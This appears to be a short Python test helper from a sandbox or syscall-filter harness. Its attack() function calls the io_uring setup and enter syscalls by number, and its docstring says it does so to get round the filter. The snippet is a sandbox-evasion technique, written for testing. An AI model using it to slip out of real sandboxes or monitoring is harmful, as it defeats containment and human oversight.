"""Sets up io_uring to get round the filter."""

from tools import each, system_call


def attack():
    return each(lambda: system_call(425, 425, 1, bytes(120)), lambda: system_call(426, 426, 0, 0, 0, 0, 0, 0))
